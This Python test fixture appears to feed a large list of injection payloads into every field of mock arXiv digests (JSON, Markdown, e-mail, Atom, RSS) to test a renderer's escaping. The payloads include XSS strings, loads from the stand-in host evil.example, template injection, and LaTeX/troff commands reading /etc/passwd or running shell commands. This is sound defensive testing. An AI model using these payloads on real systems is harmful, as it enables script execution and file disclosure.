"""Strings that would run a script, or call out, on a page that trusted them; and digests of them.

Every string tries to call ``alert`` or to load something from ``evil.example``.
"""

from __future__ import annotations

import json
from html import escape
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

ATTACKS = (
    # Elements
    "<script>alert(1)</script>",
    "<ScRiPt\t>alert(1)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'/>",
    "<img src=https://evil.example/pixel.png>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/x) }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=//evil.example/><button formaction=javascript:alert(1)>x</button></form>",
    # Out of an element or an attribute
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=alert(1) `",
    "</title></style></textarea></script><script>alert(1)</script>",
    "</details></article></section><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x [<!ENTITY e 'alert(1)'>]>&e;",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "$x</annotation></semantics></math><script>alert(1)</script>$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\unicode{<script>alert(1)</script>}$ $\style{background:url(//evil.example/x)}{x}$",
    r"$\class{x' onmouseover='alert(1)}{y}$ $\includegraphics{//evil.example/x.png}$",
    r"\(\require{html}\cssId{x}{y}\) \[\data{onload=alert(1)}{z}\]",
    # Formulas for scripts that look for them on the page
    r"\(\href{javascript:alert(1)}{x}\)",
    r"\[\href{javascript:alert(1)}{x}\]",
    r"$$\href{javascript:alert(1)}{x}$$",
    r"\begin{equation}\href{javascript:alert(1)}{x}\end{equation}",
    r"\(\style{background:url(https://evil.example/x)}{x}\) \(\class{a}{\cssId{b}{x}}\)",
    r"\textbackslash(\textbackslash{}href\{javascript:alert(1)\}\{x\}\textbackslash)",
    r"\textbackslash[\textbackslash{}href\{javascript:alert(1)\}\{x\}\textbackslash]",
    r"\$\$\textbackslash{}href\{javascript:alert(1)\}\{x\}\$\$",
    r"`\(\href{javascript:alert(1)}{x}\)` `$$\href{javascript:alert(1)}{x}$$`",
    r"\(\includegraphics{https://evil.example/x.png} \htmlStyle{color:red}{x}\)",
    r"\(\mmlToken{mi}[onclick=alert(1) style=background:url(//evil.example/x)]{x}\)",
    # Addresses
    "javascript:alert(1)",
    "[click](javascript:alert(1)) [click](<javascript:alert(1)>)",
    "[click](JaVaScRiPt&colon;alert(1)) [click](java&#10;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:alert(1)) [click](\x01javascript:alert(1))",
    "![x](https://evil.example/x.png) ![x](javascript:alert(1))",
    '[x](https://a.example/"onmouseover="alert(1)) [x](https://a.example/\'><img/src=x>)',
    "[x]: javascript:alert(1)\n[x]",
    r"\href{javascript:alert(1)}{x} \url{javascript:alert(1)}",
    r'\href{https://a.example/"onmouseover="alert(1)}{x} https://a.example/"onclick="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    # Entities and characters
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "＜script＞alert(1)＜/script＞",
    "<\0script>alert(1)</\0script>",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e>tpircs/<)1(trela>tpircs<\u202c\ufeff<img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e \x3cimg src=x onerror=alert(1)\x3e",
    # Templates and JavaScript
    "{{ 7 * 7 }}{{ config.__class__.__init__.__globals__ }}{% raw %}",
    "{% import 'os' as os %}${alert(1)}#{alert(1)}<%= alert(1) %>",
    "';alert(1);//\";alert(1);//`${alert(1)}`",
    "\\');alert(1);//",
    # reStructuredText
    "|x| `x <javascript:alert(1)>`_ :raw-html:`<script>alert(1)</script>`",
    ".. raw:: html\n\n   <script>alert(1)</script>",
    # LaTeX
    r"\input{/etc/passwd} \include{/etc/passwd} \InputIfFileExists{/etc/passwd}{}{}",
    r"\immediate\write18{touch evil} \openout5=evil \write5{x} \special{psfile=/etc/passwd}",
    r"\catcode`\@=0 @input{/etc/passwd} \csname input\endcsname{/etc/passwd} ^^5cinput{x}",
    r"$\input{/etc/passwd}$ $\def\x{\x}\x$ \(\catcode`\$=12\) $\write18{touch evil}$",
    r"}\end{itemize}\end{document} % \end{verbatim} \iffalse #1 & _ ^ ~ {",
    "https://a.example/`\x7f`~^|\\{} [x](https://a.example/`\x7f%#&_$)",
    r"\href{https://a.example/\input{/etc/passwd}}{x} \url{https://a.example/`}",
    # Pages of the manual, and Texinfo
    ".so /etc/passwd\n.sy touch evil\n'so /etc/passwd\n.pso cat /etc/passwd",
    r"\!.so /etc/passwd \X'tty: link javascript:alert(1)' \*[x] \n[y] \e",
    "@include /etc/passwd\n@verbatiminclude /etc/passwd\n@end menu @bye @macro x",
)

#: A word that each title has, with its number behind it.
MARK = "specimen"


def _title(number: int, attack: str) -> str:
    return f"{MARK}{number} {attack}"


def _line(text: str) -> str:
    return " ".join(text.split())


def _record(number: int, attack: str, paper_id: str) -> dict[str, object]:
    return {
        "id": paper_id,
        "title": _title(number, attack),
        "authors": [attack, f"{attack} {number}"],
        "categories": [attack, "cs.AI", attack],
        "summary": f"{attack}\n  {attack}",
        "comment": attack,
        "abs": attack,
        "AI": {"tldr": attack, "method": attack, attack: attack},
        "journal_ref": attack,
        "code_url": attack,
        "code_stars": attack,
        "announced": attack,
        "version": attack,
        "number": attack,
    }


def jsonl() -> str:
    """Return the attacks in every field, those that take codes and addresses included."""
    return "".join(
        json.dumps(_record(number, attack, f"2601.{number:05}")) + "\n"
        for number, attack in enumerate(ATTACKS, 1)
    )


def json_document() -> str:
    """Return the attacks in every field, and in the keys above the papers."""
    return json.dumps(
        {
            "date": ATTACKS[0],
            **{
                attack: [_record(number, attack, f"2606.{number:05}")]
                for number, attack in enumerate(ATTACKS, 1)
            },
        }
    )


def listed() -> str:
    """Return the attacks in every piece of a list and of a table, and in headings."""
    items = "".join(
        f"## On {line}\n\n"
        f"- [{_title(number, line)}](https://arxiv.org/abs/2607.{number:05}) by {line}\n"
        f"  - Authors: {line}, {line}\n  - Category: {line}\n  - Code: {line}\n"
        f"  - {line}: {line}\n  - Abstract: {line}\n\n"
        for number, line in enumerate(map(_line, ATTACKS), 1)
    )
    rows = "".join(
        f"|{number}|{_title(number, line)}|{line}|https://arxiv.org/abs/2608.{number:05}|{line}|\n"
        for number, line in enumerate(map(_line, ATTACKS), 1)
    )
    return f"{items}\n|#|Title|Authors|PDF|Code|\n|-|-|-|-|-|\n{rows}"


def markdown() -> str:
    """Return the attacks in every field of the usual layout."""
    entries = "".join(
        f"### [{number}] [{_title(number, line)}](https://arxiv.org/abs/2602.{number:05})\n"
        f"*{line},{line} Jr.*\n\nMain category: {line}\n\nTL;DR: {line}\n\n\n"
        f"<details>\n  <summary>Details</summary>\nMethod: {line}\n\n{line}: {line}\n\n"
        f"Code: {line}\n\nComments: {line}\n\nAbstract: {line}\n\n{line}\n</details>\n\n"
        for number, line in enumerate(map(_line, ATTACKS), 1)
    )
    broken = "".join(f"### [{_line(each)}]({_line(each)})\n*x*\n\n" for each in ATTACKS)
    return f"# cs.AI [[Back]](#toc)\n\n{entries}{broken}"


def announcement() -> str:
    """Return the attacks in every header field of an e-mail."""
    entries = "".join(
        f"\\\\\narXiv:2603.{number:05}\nDate: Fri, 26 Jun 2026 02:49:53 GMT   ({line})\n\n"
        f"Title: {_title(number, line)}\nAuthors: {line}, Ada Example ({line})\n"
        f"Categories: cs.AI {line}\nComments: {line}\nReport-no: {line}\nLicense: {line}\n"
        f"\\\\\n  {line}\n\\\\ ( https://arxiv.org/abs/2603.{number:05} ,  1kb)\n{'-' * 78}\n"
        for number, line in enumerate(map(_line, ATTACKS), 1)
    )
    return f"{'-' * 78}\n received from  Thu 25 Jun 26  to  Fri 26 Jun 26\n{'-' * 78}\n{entries}"


def _xml(text: str) -> str:
    return escape(text.replace("\0", "").replace("\x01", ""))


def atom() -> str:
    """Return the attacks in every element of the API's answer."""
    entries = "".join(
        f"<entry><id>http://arxiv.org/abs/2604.{number:05}v1</id>"
        f"<title>{_xml(_title(number, attack))}</title><summary>{_xml(attack)}</summary>"
        f"<author><name>{_xml(attack)}</name></author>"
        f"<arxiv:comment>{_xml(attack)}</arxiv:comment>"
        f"<arxiv:journal_ref>{_xml(attack)}</arxiv:journal_ref>"
        f'<link title="pdf" href="{_xml(attack)}"/>'
        f'<arxiv:primary_category term="cs.AI"/><category term="{_xml(attack)}"/></entry>'
        for number, attack in enumerate(ATTACKS, 1)
    )
    namespaces = 'xmlns="http://www.w3.org/2005/Atom" xmlns:arxiv="http://arxiv.org/schemas/atom"'
    return f"<feed {namespaces}>{entries}</feed>"


def rss() -> str:
    """Return the attacks in every element of a daily feed, whose texts are HTML once more."""
    items = "".join(
        f"<item><title>{_xml(_title(number, attack))}</title>"
        f"<link>https://arxiv.org/abs/2605.{number:05}</link>"
        f"<description>arXiv:2605.{number:05}v1 Announce Type: new\nAbstract: {_xml(attack)}"
        f"</description><category>cs.AI</category><category>{_xml(attack)}</category>"
        f"<dc:creator>{_xml(attack)}</dc:creator><dc:rights>{_xml(attack)}</dc:rights></item>"
        for number, attack in enumerate(ATTACKS, 1)
    )
    namespaces = 'xmlns:dc="http://purl.org/dc/elements/1.1/"'
    return f'<rss version="2.0" {namespaces}><channel>{items}</channel></rss>'


#: Format → a digest with every attack in every field.
DIGESTS: dict[str, Callable[[], str]] = {
    "jsonl": jsonl,
    "json": json_document,
    "markdown": markdown,
    "list": listed,
    "announcement": announcement,
    "atom": atom,
    "rss": rss,
}
